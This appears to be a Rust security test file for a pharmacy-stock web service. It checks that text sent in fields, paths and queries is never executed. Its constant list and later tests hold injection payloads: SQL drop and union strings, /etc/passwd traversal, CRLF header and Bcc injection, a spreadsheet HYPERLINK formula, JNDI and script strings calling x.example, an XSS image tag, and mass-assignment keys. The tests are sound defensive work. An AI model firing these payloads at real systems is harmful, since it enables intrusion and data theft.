//! What is typed into a field or an address is a text and never a command: to the database, to a file system, to
//! a mail server, to a spreadsheet, to a browser.

use super::{filled, operations};
use crate::service::{Answer, App, CENTRE, MG400, spawn};
use crate::story::items;
use crate::support::Backend;
use dotation::domain::role::Role;
use serde_json::{Value, json};
use std::fmt::Write as _;

on_both! {
    no_text_in_any_field_is_a_command
    no_text_in_an_address_or_a_query_is_a_command
    no_text_that_is_kept_comes_back_as_markup_or_a_header
    what_is_not_offered_to_be_set_is_not_set
}

const COMMANDS: [&str; 7] = [
    "'; DROP TABLE lots; DELETE FROM movements; --",
    "\" OR \"1\"=\"1",
    "' UNION SELECT hash FROM tokens --",
    "../../../../etc/passwd\u{0}.csv",
    "=HYPERLINK(\"http://x.example\",\"x\")",
    "a\r\nSet-Cookie: dotation=x\r\nBcc: x@x.example",
    "<script>alert(1)</script>${jndi:ldap://x.example}{{7*7}}",
];

/// Every byte of a text, as an address carries it.
fn percent(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        write!(out, "%{byte:02X}").unwrap();
        out
    })
}

fn address(path: &str, text: &str) -> String {
    let encoded = percent(text);
    let mut out = String::new();
    let mut rest = path;
    while let Some((before, after)) = rest.split_once('{') {
        let (name, after) = after.split_once('}').unwrap();
        out.push_str(before);
        out.push_str(if name == "finess" { CENTRE } else { &encoded });
        rest = after;
    }
    out + rest
}

/// As whoever of those who may do most is let in.
fn send_as_any(app: &App, method: &str, path: &str, body: Option<&Value>) -> Answer {
    let mut answers = MOST.iter().map(|role| send(app, *role, method, path, body));
    let first = answers.next().unwrap();
    match first.status {
        403 => answers.find(|a| a.status != 403).unwrap_or(first),
        _ => first,
    }
}

fn send(app: &App, role: Role, method: &str, path: &str, body: Option<&Value>) -> Answer {
    let bearer = format!("Bearer {}", app.token(role));
    let headers = [
        ("Authorization", &*bearer),
        ("If-Match", "\"v1\""),
        ("Idempotency-Key", "k-1"),
    ];
    let body = body.map(ToString::to_string);
    app.send(method, path, &headers, body.as_deref().map(str::as_bytes))
}

/// Who may do most, at a site and of the whole.
const MOST: [Role; 3] = [Role::Pharmacist, Role::Coordinator, Role::Admin];

/// What is in the database all the while.
fn kept(app: &App) -> Value {
    let stock = app.get(Role::Pharmacist, &format!("/sites/{CENTRE}/stock"));
    let movements = app.get(Role::Pharmacist, &format!("/sites/{CENTRE}/movements"));
    json!([
        stock.expect(200)["presentations"],
        items(&movements.expect(200))
    ])
}

fn no_text_in_any_field_is_a_command(backend: Backend) {
    let app = spawn(backend);
    app.receive(CENTRE, MG400, "B1", "2022-06-30", 8);
    let before = kept(&app);
    let (all, document) = operations(&app);
    let mut tried = 0;
    for operation in &all {
        let Some(shape) = &operation.body else {
            continue;
        };
        for command in COMMANDS {
            let body = filled(&document, shape, command, 6);
            let path = address(&operation.path, "nothing");
            let answer = send_as_any(&app, &operation.method, &path, Some(&body));
            let which = format!("{} {path} {command:?}: {}", operation.method, answer.text);
            assert!(answer.status < 500, "{which}");
            assert!(answer.headers.get("bcc").is_none(), "{which}");
            tried += 1;
        }
    }
    assert!(tried > 400, "{tried}");
    assert_eq!(kept(&app), before);
}

fn no_text_in_an_address_or_a_query_is_a_command(backend: Backend) {
    let app = spawn(backend);
    app.receive(CENTRE, MG400, "B1", "2022-06-30", 8);
    let before = kept(&app);
    let (all, _) = operations(&app);
    for operation in all.iter().filter(|o| o.method == "GET") {
        for command in COMMANDS {
            let encoded = percent(command);
            let path = address(&operation.path, command);
            let of_query = operation.query.iter().map(|name| {
                let path = address(&operation.path, "nothing");
                format!("{path}?{name}={encoded}")
            });
            for path in of_query.chain([path]) {
                let answer = send_as_any(&app, "GET", &path, None);
                let which = format!("{path}: {} {}", answer.status, answer.text);
                assert!(answer.status < 500, "{which}");
                assert!(!answer.text.contains("root:"), "{which}");
                assert!(answer.headers.get("set-cookie").is_none(), "{which}");
            }
        }
    }
    assert_eq!(kept(&app), before);
}

fn no_text_that_is_kept_comes_back_as_markup_or_a_header(backend: Backend) {
    let app = spawn(backend);
    let name = "<img src=x onerror=alert(1)>";
    let new = json!({ "capacity": "pharmacist", "name": name, "email": "x@example.org" });
    let path = format!("/sites/{CENTRE}/recipients");
    app.post(Role::Pharmacist, &path, &new).expect(201);
    // as data it is what was typed, and no browser takes it for a page
    let listed = app.get(Role::Pharmacist, &path);
    let kind = listed.headers["content-type"].to_str().unwrap().to_owned();
    assert!(kind.starts_with("application/json"), "{kind}");
    assert_eq!(listed.headers["x-content-type-options"], "nosniff");
    assert!(listed.text.contains("<img"));
    // what is typed as the id of a request is given back in a header only when it is one
    for id in ["x\ty", "a b", "<b>", &"x".repeat(300)] {
        let bearer = format!("Bearer {}", app.token(Role::Admin));
        let headers = [("Authorization", &*bearer), ("X-Request-Id", id)];
        let answer = app.send("GET", "/whoami", &headers, None);
        let given = answer.headers.get("x-request-id");
        assert_ne!(given.and_then(|v| v.to_str().ok()), Some(id));
    }
}

fn what_is_not_offered_to_be_set_is_not_set(backend: Backend) {
    let app = spawn(backend);
    let (all, document) = operations(&app);
    let mut tried = 0;
    for operation in &all {
        let Some(shape) = &operation.body else {
            continue;
        };
        for more in [
            "id",
            "version",
            "is_admin",
            "__proto__",
            "state",
            "password_hash",
        ] {
            let mut body = filled(&document, shape, "x", 6);
            let Some(members) = body.as_object_mut() else {
                continue;
            };
            if members.contains_key(more) {
                continue;
            }
            members.insert(more.to_owned(), json!("x"));
            let path = address(&operation.path, "nothing");
            let answer = send_as_any(&app, &operation.method, &path, Some(&body));
            let which = format!("{} {path} {more}: {}", operation.method, answer.text);
            assert!(answer.status >= 400 && answer.status < 500, "{which}");
            tried += 1;
        }
    }
    assert!(tried > 200, "{tried}");
}
